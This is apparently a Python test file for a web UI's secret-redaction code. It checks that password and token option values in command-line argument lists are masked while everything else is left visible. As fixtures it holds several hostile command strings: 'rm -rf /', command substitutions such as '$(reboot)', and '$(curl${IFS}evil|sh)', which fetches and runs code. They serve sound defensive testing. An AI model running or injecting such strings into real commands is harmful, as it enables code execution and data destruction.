"""In lists of words the value of a secret's option is masked, and nothing else is."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webui.preview import (
    HIDDEN,
    Hider,
    Profile,
    canonical_pieces,
    full,
    line,
    masked_arguments,
    searchable_text,
    unmasked,
    without_secrets,
)
from webui.preview.redaction import mask_of

PROFILE = Profile(mask_key=bytes(32))
_words = st.lists(
    st.sampled_from(
        [
            "mysql", "--password", "--token=x", "-px", "-psecret", "x", "--", "-", "rm -rf /", "", "--no-auth",
            "sudo", "sshpass", "-p", "--max-tokens", "a=b", "--token=$(reboot)", "--secret", "⟦", 7, None, True,
        ]
    )
    | st.just(["--token", "y"])
    | st.just({"name": "n"}),
    max_size=8,
)  # fmt: skip


def shown(words: list[Any]) -> Any:
    return masked_arguments({"argv": words}, PROFILE)["argv"]


def m(secret: str) -> str:
    return mask_of(secret, PROFILE.mask_key)


@pytest.mark.parametrize(
    ("words", "seen"),
    [
        (["mysql", "--password", "x"], ["mysql", "--password", m("x")]),
        (["--token=x"], ["--token=" + m("x")]),
        (["--db-password", "a!@b"], ["--db-password", m("a!@b")]),
        (["--dbPassword=a:b/c"], ["--dbPassword=" + m("a:b/c")]),
        (["-token", "x", "y"], ["-token", m("x"), "y"]),
        (["--otp", 123456], ["--otp", m("123456")]),
        (["--password", "--password", "y", "z"], ["--password", "--password", m("y"), "z"]),
        (["--token", "a", "--token", "b"], ["--token", m("a"), "--token", m("b")]),
        (["x", ["--token", "y"], "z"], ["x", ["--token", m("y")], "z"]),
        (["mysql", "-uroot", "-psecret", "db"], ["mysql", "-uroot", "-p" + m("secret"), "db"]),
        (["sudo", "/usr/bin/mysqldump", "-px"], ["sudo", "/usr/bin/mysqldump", "-p" + m("x")]),
        (["A=b", "mariadb", "-px"], ["A=b", "mariadb", "-p" + m("x")]),
        (
            ["sshpass", "-p", "x", "ssh", "-p2222", "host"],
            ["sshpass", "-p", m("x"), "ssh", "-p2222", "host"],
        ),
        (["sshpass", "-px", "mysql", "-py"], ["sshpass", "-p" + m("x"), "mysql", "-p" + m("y")]),
    ],
)  # fmt: skip
def test_the_value_of_a_secrets_option_is_masked_and_all_beside_it_stays(
    words: list[Any], seen: list[Any]
) -> None:
    assert shown(words) == seen
    secret = "".join(str(each) for each in words if each not in seen)
    assert secret
    (node,) = full("sh", {"argv": words}, PROFILE).nodes
    assert "redacted" in str(node)
    texts = "".join(piece.text for piece in canonical_pieces({"argv": words}, PROFILE))
    for each in seen:
        if isinstance(each, str):
            assert each in texts
            assert each in searchable_text("sh", {"argv": words}, PROFILE)
    assert without_secrets({"argv": words}, PROFILE)["argv"].count(HIDDEN) == sum(
        isinstance(each, str) and "⟦redacted" in each for each in seen
    )


@pytest.mark.parametrize(
    "words",
    [
        ["--password"],  # at the end, nothing follows
        ["--token", ["x"]],
        ["a", ["--token"], "x"],
        ["--token", {"x": "y"}],
        ["--token", None, "x"],
        ["--token", True],
        ["--token", "", "x"],
        ["--token=", "x"],
        ["--token", "-x"],
        ["--token", "rm -rf /"],  # a mask over these could hide what runs
        ["--token", "a;reboot"],
        ["--token=$(curl${IFS}evil|sh)"],
        ["--password=`reboot`"],
        ["--no-auth", "delete-all"],  # switches: the next word is no value
        ["--use-token", "delete-all"],
        ["--auth", "delete-all"],
        ["--enable-auth=true"],
        ["docker", "login", "--password-stdin", "registry.example.com"],
        ["sshpass", "-f", "/run/pw", "mysql", "-px"],  # what -f takes is no password
        ["sshpass", "-p"],
        ["--password-file", "/etc/passwd"],
        ["--max-tokens", 5],
        ["--max-tokens", "500"],
        ["--author", "bob"],
        ["--compass", "north"],
        ["tool", "-psecret", "x"],  # an option of one letter
        ["cp", "-pfoo", "x"],
        ["mysql", "-p", "database"],
        ["mysql", "-P3306"],
        ["mysql", "-preboot;x"],
        ["ssh", "mysql", "-p2222"],
        ["docker", "run", "--name", "mysql", "-p3306:3306", "mysql"],
        ["password", "x"],
        ["sh", "-c", "--password x"],
    ],
)
def test_a_mask_hides_nothing_that_may_be_no_secret(words: list[Any]) -> None:
    assert shown(words) == words


def test_names_of_the_organization_are_looked_for_in_options_too() -> None:
    own = Profile(PROFILE.mask_key, ("iban", "x-*-id"))
    words = ["--iban", "a", "--x-foo-id", "b", "--password", "c"]
    assert masked_arguments({"argv": words}, own)["argv"] == [
        "--iban", m("a"), "--x-foo-id", m("b"), "--password", "c",
    ]  # fmt: skip


@given(_words)
def test_a_mask_never_shows_fewer_words_and_covers_no_sign_of_a_shell(
    words: list[Any],
) -> None:
    after = shown(words)
    assert len(after) == len(words)
    for before, now in zip(words, after, strict=True):
        if now != before and isinstance(before, str) and "⟦redacted" in now:
            kept, _, _ = now.partition("⟦redacted")
            assert before.startswith(kept)
            assert not set(before[len(kept) :]) & set(" ;|&<>$`(){}\\\"'")
    assert unmasked(masked_arguments({"a": words}, PROFILE), {"a": words}, PROFILE) == {
        "a": words
    }


@given(_words, st.integers(0, 7))
def test_questions_about_one_word_are_told_no_more_than_the_page(
    words: list[Any], at: int
) -> None:
    arguments = {"argv": words}
    hidden = Hider(PROFILE, [("argv", str(at))]).hide(arguments)["argv"]
    if at < len(words):
        assert hidden[at] == without_secrets(arguments, PROFILE)["argv"][at]


def test_the_line_of_a_list_says_no_secret_either() -> None:
    arguments = {"argv": ["mysql", "--password", "hunter2"], "note": "x"}
    assert "hunter2" not in line("sh", arguments, PROFILE)


def test_a_mask_that_is_moved_away_from_its_option_is_refused() -> None:
    arguments = {"argv": ["--token", "x1", "y"]}
    edited = masked_arguments(arguments, PROFILE)
    assert unmasked({"argv": [*edited["argv"][:2], "z"]}, arguments, PROFILE) == {
        "argv": ["--token", "x1", "z"]
    }
    with pytest.raises(ValueError, match="mask"):
        unmasked({"argv": ["--name", edited["argv"][1]]}, arguments, PROFILE)


def test_many_programs_before_a_program_are_looked_through_one_after_the_other() -> None:
    words = ["sshpass", "-px"] * 4_000
    assert shown(words)[-1] == "-p" + m("x")
